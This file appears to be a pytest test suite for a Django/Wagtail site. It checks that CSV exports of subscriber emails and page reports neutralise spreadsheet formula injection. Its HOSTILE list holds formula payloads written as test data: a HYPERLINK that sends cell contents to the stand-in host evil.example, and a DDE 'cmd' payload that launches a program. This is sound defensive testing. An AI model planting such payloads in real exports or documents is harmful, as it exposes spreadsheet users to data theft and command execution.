"""CSV exports never hand a spreadsheet program a formula to run."""

import csv
import io

import pytest
from django.test import Client

from broadsheet.core.spreadsheets import safe_cell
from broadsheet.testing import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")@example.com',
    "+1+cmd|' /C calc'!A0@example.com",
    "-2+3@example.com",
    "@SUM(1+1)@example.com",
    "\t=1+1@example.com",
    "＝1+1@example.com",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ada@example.com", "", 42, None, "a=b"])
def test_ordinary_values_are_untouched(value):
    assert safe_cell(value) == value


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def admin_client(db):
    client = Client()
    client.force_login(factories.make_member("boss@example.com", superuser=True))
    return client


def test_subscriber_export_neutralises_formulas(admin_client):
    for address in HOSTILE:
        factories.make_subscriber(address)
    response = admin_client.get("/admin/snippets/newsletter/subscriber/?export=csv")
    assert response.status_code == 200
    emails = {next(iter(row.values())) for row in _rows(response)}
    assert emails == {"'" + address for address in HOSTILE}


def test_wagtail_reports_are_neutralised_too(admin_client, publication):
    # Any CSV export, not only ours: an editor's page title in a report.
    article = publication["articles"][0]
    article.title = '=HYPERLINK("http://evil.example")'
    article.save_revision().publish()
    response = admin_client.get("/admin/reports/aging-pages/?export=csv")
    assert response.status_code == 200
    titles = {row["Title"] for row in _rows(response)}
    assert "'" + article.title in titles
    assert article.title not in titles
